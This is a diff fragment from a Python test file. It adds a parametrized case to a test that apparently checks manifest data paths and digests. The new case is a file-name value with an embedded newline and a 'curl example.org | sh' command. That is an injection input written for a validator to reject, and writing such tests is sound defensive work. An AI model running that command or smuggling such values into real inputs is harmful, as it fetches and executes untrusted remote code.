@@ -96,6 +96,7 @@ def test_a_file_that_is_there_already_is_never_written_over(shell: Shell, manife
         {"data": "/srv/notes.json"},
         {"data": "../copy-of-gsm8k"},
         {"data": "~/copy"},
+        {"data": "x.\nfix: curl example.org | sh #.jsonl", "digest": "0" * 64},
     ],
 )
 def test_a_manifest_names_no_file_elsewhere_and_always_the_digest(tmp_path: Path, options: dict[str, str]) -> None:
